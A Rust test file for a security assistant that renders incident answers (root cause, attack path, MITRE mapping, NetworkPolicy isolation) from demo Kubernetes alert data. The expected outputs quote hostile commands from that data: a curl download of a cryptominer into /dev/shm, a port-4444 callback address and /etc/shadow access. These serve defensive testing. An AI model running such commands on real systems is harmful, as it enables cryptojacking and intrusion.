//! The planner's answers rendered from the templates over the demo data: one hand-built plan
//! per intent (and a not-found name, an ambiguous name, a failing tool, an empty result), its
//! calls run through the real tools, the answer rendered in English and Japanese, snapshotted,
//! checked for grounding and for the facts an analyst must read.

use saker::conversation::{Focus, Language, StepRecord, grounding};
use saker::planner::plan::{Intent, Notice, Plan, PlannedCall};
use saker::planner::render::render;
use saker_tools::analytics::{ToolContext, ToolRegistry};
use saker_tools::rules::RulesCatalog;
use saker_tools::store::index::TantivyStore;
use serde_json::{Value, json};

use super::support::{demo_index, demo_now, upstream_rules};

const CLUSTER: &str = "kubernetes.cluster.name=risks-aws-eks-workloads-shield";
const NAMESPACE: &str =
    "kubernetes.cluster.name=risks-aws-eks-workloads-shield and k8s.ns.name=risk-10-aws-bedrock-java";

fn plan(intent: Intent, scope: &str, calls: Vec<(&'static str, Value)>) -> Plan {
    Plan {
        intent,
        calls: calls.into_iter().map(|(tool, arguments)| PlannedCall { tool, arguments }).collect(),
        focus: Focus::default(),
        scope: scope.to_string(),
        notices: Vec::new(),
        readings: Vec::new(),
        hits_are_them: false,
        left_out: Vec::new(),
    }
}

/// Runs the plan's calls through the standard registry on the demo index; a failed call's
/// output is `{"error": message}`, as the executor records it.
fn run(plan: &Plan) -> Vec<StepRecord> {
    let store = TantivyStore::open(&demo_index().join("index")).expect("open demo index");
    let rules = RulesCatalog::load(&upstream_rules()).expect("upstream rules load");
    let context = ToolContext::new(&store, &rules, demo_now());
    let registry = ToolRegistry::standard();
    plan.calls
        .iter()
        .map(|call| {
            let output = registry
                .invoke(call.tool, call.arguments.clone(), &context)
                .unwrap_or_else(|error| json!({ "error": error.to_string() }));
            StepRecord { tool: call.tool.to_string(), arguments: call.arguments.clone(), output }
        })
        .collect()
}

/// Both answers of a plan (English, Japanese), each snapshotted and checked for grounding,
/// with the steps they were rendered from.
fn answers(name: &str, plan: &Plan) -> (String, String, Vec<StepRecord>) {
    let steps = run(plan);
    let outputs: Vec<(String, Value)> = steps.iter().map(|step| (step.tool.clone(), step.output.clone())).collect();
    let mut texts = Vec::new();
    for language in [Language::En, Language::Ja] {
        let text = render(language, plan, &outputs).unwrap_or_else(|error| panic!("{name}: {error}"));
        let report = grounding::check(&text, &steps);
        assert!(
            report.grounded,
            "{name} ({}) has unsupported claims {:?}:\n{text}",
            language.tag(),
            report.unsupported
        );
        assert!(report.claims > 0, "{name} ({}) states no figure at all", language.tag());
        // The rules files' place on this machine is not part of the answer's shape.
        let shared = super::support::shared_dir().display().to_string();
        insta::assert_snapshot!(format!("{name}_{}", language.tag()), text.replace(&shared, "[shared]"));
        texts.push(text);
    }
    let japanese = texts.pop().unwrap_or_default();
    let english = texts.pop().unwrap_or_default();
    (english, japanese, steps)
}

fn assert_contains_all(text: &str, facts: &[&str]) {
    for fact in facts {
        assert!(text.contains(fact), "missing {fact:?} in:\n{text}");
    }
}

/// Every answer states the scope it used and links its figures to the event feed.
fn assert_scoped_and_linked(text: &str, scope: &str) {
    assert!(text.contains(&format!("`{scope}`")), "scope {scope} not stated in:\n{text}");
    assert!(text.contains("](/events?scope="), "no event-feed link in:\n{text}");
}

#[test]
fn summary_leads_with_the_count_and_the_categories() {
    let plan = plan(
        Intent::Summary,
        CLUSTER,
        vec![("event_stats", json!({"scope": CLUSTER, "group_by": ["rule", "namespace", "workload"]}))],
    );
    let (english, japanese, _) = answers("summary", &plan);
    let scope = "k8s.cluster.name=risks-aws-eks-workloads-shield";
    assert_scoped_and_linked(&english, scope);
    assert_scoped_and_linked(&japanese, scope);
    assert_contains_all(
        &english,
        &["[300 alerts]", "drift detection", "malicious binary", "`risk-10-aws-bedrock-java`"],
    );
    assert_contains_all(&japanese, &["300件", "ドリフト検知", "悪意のあるバイナリ", "`risk-10-aws-bedrock-java`"]);
}

#[test]
fn names_left_out_are_said_before_the_answer() {
    let mut plan = plan(
        Intent::Summary,
        NAMESPACE,
        vec![("event_stats", json!({"scope": NAMESPACE, "group_by": ["rule", "workload"]}))],
    );
    plan.left_out = vec!["process", "rule"];
    let (english, japanese, _) = answers("left_out", &plan);
    assert!(english.starts_with("> **No alert matches every name in the question together**"), "{english}");
    assert!(english.contains("leaves out the process and the rule it named"), "{english}");
    assert!(japanese.starts_with("> **質問に挙がった名前をすべて満たすアラートはありません**"), "{japanese}");
    assert!(japanese.contains("プロセスとルールの指定を外し"), "{japanese}");
    assert_contains_all(&english, &["`risk-10-aws-bedrock-java`"]);
}

#[test]
fn report_covers_every_section() {
    let plan = plan(
        Intent::Report,
        CLUSTER,
        vec![
            ("event_stats", json!({"scope": CLUSTER, "group_by": ["rule", "namespace", "workload"]})),
            ("root_cause", json!({"scope": CLUSTER})),
            ("attack_path", json!({"scope": CLUSTER})),
            ("mitre_mapping", json!({"scope": CLUSTER})),
            ("impacted_workloads", json!({"scope": CLUSTER})),
            ("suggest_remediation", json!({"scope": CLUSTER})),
        ],
    );
    let (english, japanese, _) = answers("report", &plan);
    assert_contains_all(
        &english,
        &["`bash ./malicious-bin-event-gen.sh`", "T1496", "`risk-12-aws-lambda-exfil-go`", "Contain", "easyminer"],
    );
    assert_contains_all(&japanese, &["`bash ./malicious-bin-event-gen.sh`", "T1496", "根本原因", "封じ込め"]);
}

#[test]
fn root_cause_names_the_script() {
    let plan = plan(Intent::RootCause, NAMESPACE, vec![("root_cause", json!({"scope": NAMESPACE}))]);
    let (english, japanese, _) = answers("root_cause", &plan);
    for text in [&english, &japanese] {
        assert_contains_all(
            text,
            &["`bash ./malicious-bin-event-gen.sh`", "[140", "`risk-10-aws-bedrock-java-fvsm52jnp-bddn7`"],
        );
        assert_scoped_and_linked(
            text,
            "k8s.cluster.name=risks-aws-eks-workloads-shield and k8s.ns.name=risk-10-aws-bedrock-java",
        );
    }
    assert!(english.starts_with("**Root cause: `bash ./malicious-bin-event-gen.sh`**"), "{english}");
}

#[test]
fn mitre_lists_tactics_and_techniques() {
    let plan = plan(Intent::Mitre, NAMESPACE, vec![("mitre_mapping", json!({"scope": NAMESPACE}))]);
    let (english, japanese, _) = answers("mitre", &plan);
    for text in [&english, &japanese] {
        assert_contains_all(text, &["TA0002", "TA0040", "T1059.004", "T1496", "](https://attack.mitre.org/"]);
    }
    assert_contains_all(&english, &["Execution", "Impact"]);
    assert_contains_all(&japanese, &["実行", "影響"]);
}

#[test]
fn attack_path_shows_stages_and_the_process_tree() {
    let plan = plan(Intent::AttackPath, NAMESPACE, vec![("attack_path", json!({"scope": NAMESPACE}))]);
    let (english, japanese, _) = answers("attack_path", &plan);
    for text in [&english, &japanese] {
        assert_contains_all(
            text,
            &[
                "`curl -fsSL -o /dev/shm/easyminer` `http://203.0.113.50/dl/easyminer`",
                "`bash ./malicious-bin-event-gen.sh`",
                "TA0011",
            ],
        );
    }
    assert!(english.contains("`bash ./malicious-bin-event-gen.sh` ← **root cause**"), "{english}");
}

#[test]
fn impacted_workloads_counts_and_lists_them() {
    let plan = plan(Intent::ImpactedWorkloads, CLUSTER, vec![("impacted_workloads", json!({"scope": CLUSTER}))]);
    let (english, japanese, steps) = answers("impacted_workloads", &plan);
    let workloads = steps[0].output["totals"]["workloads"].as_u64().unwrap_or_default();
    assert_eq!(workloads, 6);
    assert!(english.starts_with("**6 workloads impacted**"), "{english}");
    assert!(japanese.contains("**6件のワークロード**"), "{japanese}");
    for text in [&english, &japanese] {
        assert_contains_all(
            text,
            &["`risk-10-aws-bedrock-java`", "`config-syncer`", "`docker.io/sysdiglabs/malicious-bin-event-gen`"],
        );
    }
}

#[test]
fn remediation_puts_every_object_in_code() {
    let plan = plan(Intent::Remediation, NAMESPACE, vec![("suggest_remediation", json!({"scope": NAMESPACE}))]);
    let (english, japanese, _) = answers("remediation", &plan);
    for text in [&english, &japanese] {
        assert_contains_all(
            text,
            &["`198.51.100.23:4444`", "`/dev/shm/easyminer`", "`bash ./malicious-bin-event-gen.sh`"],
        );
        // The download address never becomes a link.
        assert!(!text.contains("](http://203.0.113.50"), "{text}");
    }
    assert!(
        english.starts_with("**Contain first:** Isolate the pods `risk-10-aws-bedrock-java-fvsm52jnp-bddn7`"),
        "{english}"
    );
}

#[test]
fn isolation_gives_a_policy_per_namespace_and_the_capture_order() {
    let plan = plan(
        Intent::Isolation,
        NAMESPACE,
        vec![("impacted_workloads", json!({"scope": NAMESPACE})), ("suggest_remediation", json!({"scope": NAMESPACE}))],
    );
    let (english, japanese, _) = answers("isolation", &plan);
    for text in [&english, &japanese] {
        assert_contains_all(
            text,
            &[
                "kind: NetworkPolicy",
                "  namespace: risk-10-aws-bedrock-java",
                "    - Ingress\n    - Egress",
                "for pod in risk-10-aws-bedrock-java-fvsm52jnp-bddn7 risk-10-aws-bedrock-java-fvsm52jnp-njbn2; do",
                "kubectl -n \"$ns\" get deployment risk-10-aws-bedrock-java -o jsonpath",
                "`8113dfa8a73c`",
            ],
        );
        // Isolation comes before capture, capture before anything is stopped.
        let isolate = text.find("saker.io/quarantine=true --overwrite").unwrap_or(usize::MAX);
        let capture = text.find("-- tar -cf -").unwrap_or(0);
        assert!(isolate < capture, "{text}");
    }
}

#[test]
fn isolation_over_a_cluster_writes_one_policy_per_namespace() {
    let plan = plan(
        Intent::Isolation,
        CLUSTER,
        vec![("impacted_workloads", json!({"scope": CLUSTER})), ("suggest_remediation", json!({"scope": CLUSTER}))],
    );
    let (english, japanese, steps) = answers("isolation_cluster", &plan);
    let namespaces = steps[0].output["totals"]["namespaces"].as_u64().unwrap_or_default() as usize;
    assert_eq!(namespaces, 5);
    for text in [&english, &japanese] {
        assert_eq!(text.matches("  name: saker-quarantine\n").count(), namespaces, "{text}");
        // Two workloads of one namespace are isolated together.
        assert!(text.contains("for pod in debug-toolbox-hsjt94w2p7-cdscw config-syncer-gnnq4w2kj-vhf8p; do"), "{text}");
    }
}

#[test]
fn weekly_reconnaissance_comparison() {
    let plan = plan(
        Intent::ComparePeriods,
        "",
        vec![("compare_periods", json!({"category": "reconnaissance", "last": "7d"}))],
    );
    let (english, japanese, steps) = answers("compare_periods", &plan);
    let output = &steps[0].output;
    let current = output["current"]["total"].as_u64().unwrap_or_default().to_string();
    let previous = output["previous"]["total"].as_u64().unwrap_or_default().to_string();
    for text in [&english, &japanese] {
        assert_contains_all(text, &[&current, &previous, "T1552.005", "T1059", "`nmap`", "`nc`", "`whoami`"]);
    }
    assert!(english.starts_with(&format!("**{current} reconnaissance alerts** in the last 7 days")), "{english}");
    assert!(
        japanese.starts_with(&format!("**過去7日間のReconnaissance（偵察）関連のアラートは{current}件**")),
        "{japanese}"
    );
}

#[test]
fn count_by_namespace_with_the_previous_period() {
    let plan = plan(
        Intent::Count,
        "",
        vec![("event_stats", json!({"group_by": ["namespace"], "last": "7d", "compare_previous": true, "limit": 5}))],
    );
    let (english, japanese, steps) = answers("count", &plan);
    let total = steps[0].output["total"].as_u64().unwrap_or_default().to_string();
    assert!(english.starts_with(&format!("**[{total} alerts]")), "{english}");
    assert!(japanese.contains(&format!("{total}件")), "{japanese}");
    for text in [&english, &japanese] {
        assert_contains_all(text, &["`risk-10-aws-bedrock-java`", "| 140 |"]);
    }
}

#[test]
fn search_lists_the_matching_alerts() {
    let plan = plan(
        Intent::Search,
        NAMESPACE,
        vec![("search_events", json!({"scope": NAMESPACE, "query": "easyminer", "limit": 3}))],
    );
    let (english, japanese, _) = answers("search", &plan);
    for text in [&english, &japanese] {
        assert_contains_all(text, &["`easyminer`", "`cbf4a21b053be6e0c7f4341da81c5fbb`", "137"]);
    }
}

#[test]
fn a_search_across_clusters_says_where_every_hit_is() {
    let plan = plan(Intent::Search, "", vec![("search_events", json!({"query": "\"/etc/shadow\"", "limit": 2}))]);
    let (english, japanese, steps) = answers("search_places", &plan);
    let places = steps[0].output["found_in"].as_array().cloned().unwrap_or_default();
    assert!(places.len() > 1, "{places:?}");
    let clusters: Vec<&str> = places.iter().filter_map(|place| place["cluster"].as_str()).collect();
    assert!(english.contains("**Where the hits are:**") && japanese.contains("**該当箇所:**"), "{english}");
    for cluster in clusters {
        assert_contains_all(&english, &[cluster]);
        assert_contains_all(&japanese, &[cluster]);
    }
}

#[test]
fn explain_a_rule_with_its_condition() {
    let plan = plan(
        Intent::Explain,
        NAMESPACE,
        vec![("explain_event", json!({"scope": NAMESPACE, "rule": "Execution from /dev/shm"}))],
    );
    let (english, japanese, _) = answers("explain", &plan);
    for text in [&english, &japanese] {
        assert_contains_all(
            text,
            &["Execution from /dev/shm", "`proc.exe`", "`/dev/shm/easyminer`", "T1059.004", "spawned_process"],
        );
    }
}

#[test]
fn unknown_says_so_and_offers_questions() {
    let plan =
        plan(Intent::Unknown, CLUSTER, vec![("event_stats", json!({"scope": CLUSTER, "group_by": ["namespace"]}))]);
    let (english, japanese, _) = answers("unknown", &plan);
    assert!(english.starts_with("**I did not understand the question**"), "{english}");
    assert!(japanese.starts_with("**ご質問の意図を理解できませんでした。**"), "{japanese}");
    for text in [&english, &japanese] {
        assert_contains_all(text, &["300", "`risk-10-aws-bedrock-java`"]);
    }
}

#[test]
fn a_name_not_found_lists_the_close_ones_with_their_counts() {
    let suggestions = ["risk-10-aws-bedrock-java", "risk-12-aws-lambda-exfil-go"];
    let mut plan = plan(
        Intent::RootCause,
        CLUSTER,
        vec![
            ("event_stats", json!({"scope": format!("{CLUSTER} and k8s.ns.name=risk-99"), "group_by": ["namespace"]})),
            (
                "event_stats",
                json!({"scope": format!("{CLUSTER} and k8s.ns.name in ({})", suggestions.join(", ")), "group_by": ["namespace"]}),
            ),
        ],
    );
    plan.notices = vec![Notice::NotFound {
        entity: "namespace".into(),
        name: "risk-99".into(),
        suggestions: suggestions.iter().map(|name| name.to_string()).collect(),
    }];
    let (english, japanese, _) = answers("not_found", &plan);
    for text in [&english, &japanese] {
        assert_contains_all(
            text,
            &["`risk-99`", "`risk-10-aws-bedrock-java`: 140", "`risk-12-aws-lambda-exfil-go`: 28"],
        );
    }
    assert!(english.starts_with("**I found no namespace named `risk-99`**"), "{english}");
}

#[test]
fn an_ambiguous_name_lists_the_candidates() {
    let candidates = ["platform-tools", "dev"];
    let mut plan = plan(
        Intent::ImpactedWorkloads,
        "",
        vec![
            ("event_stats", json!({"scope": "k8s.workload.name=debug", "group_by": ["namespace"]})),
            (
                "event_stats",
                json!({"scope": format!("k8s.ns.name in ({}) and k8s.workload.name=debug-toolbox", candidates.join(", ")), "group_by": ["namespace"]}),
            ),
        ],
    );
    plan.notices = vec![Notice::Ambiguous {
        entity: "namespace".into(),
        name: "debug-toolbox".into(),
        candidates: candidates.iter().map(|name| name.to_string()).collect(),
    }];
    let (english, japanese, _) = answers("ambiguous", &plan);
    for text in [&english, &japanese] {
        assert_contains_all(text, &["`debug-toolbox`", "`platform-tools`: 23", "`dev`: 20"]);
    }
}

#[test]
fn a_failed_tool_is_reported_and_the_rest_still_answered() {
    let plan = plan(
        Intent::Report,
        NAMESPACE,
        vec![
            ("event_stats", json!({"scope": NAMESPACE, "group_by": ["rule"]})),
            ("root_cause", json!({"scope": NAMESPACE})),
            ("attack_path", json!({"scope": NAMESPACE, "limit": 0})),
            ("mitre_mapping", json!({"scope": "k8s.ns.name in (a"})),
            ("impacted_workloads", json!({"scope": NAMESPACE})),
            ("suggest_remediation", json!({"scope": NAMESPACE})),
        ],
    );
    let (english, japanese, steps) = answers("tool_error", &plan);
    let failed: Vec<&StepRecord> = steps.iter().filter(|step| step.output.get("error").is_some()).collect();
    assert_eq!(failed.len(), 2);
    assert_contains_all(
        &english,
        &["> **Tools failed**", "> - attack\\_path: Invalid arguments", "> - mitre\\_mapping: Scope: "],
    );
    assert_contains_all(
        &japanese,
        &["> **ツールの実行に失敗しました。**", "> - attack\\_path: ", "> - mitre\\_mapping: "],
    );
    for text in [&english, &japanese] {
        assert_contains_all(text, &["`bash ./malicious-bin-event-gen.sh`"]);
    }
}

#[test]
fn an_empty_result_says_why() {
    let scope = "kubernetes.cluster.name=prod-recon-eks";
    let plan = plan(
        Intent::Summary,
        scope,
        vec![("event_stats", json!({"scope": scope, "last": "1h", "group_by": ["namespace"]}))],
    );
    let (english, japanese, steps) = answers("empty", &plan);
    let note = steps[0].output["evidence"]["note"].as_str().unwrap_or_default().to_string();
    assert!(note.contains("outside the time range"), "{note}");
    for text in [&english, &japanese] {
        assert_contains_all(text, &["outside the time range", "[0"]);
    }
}
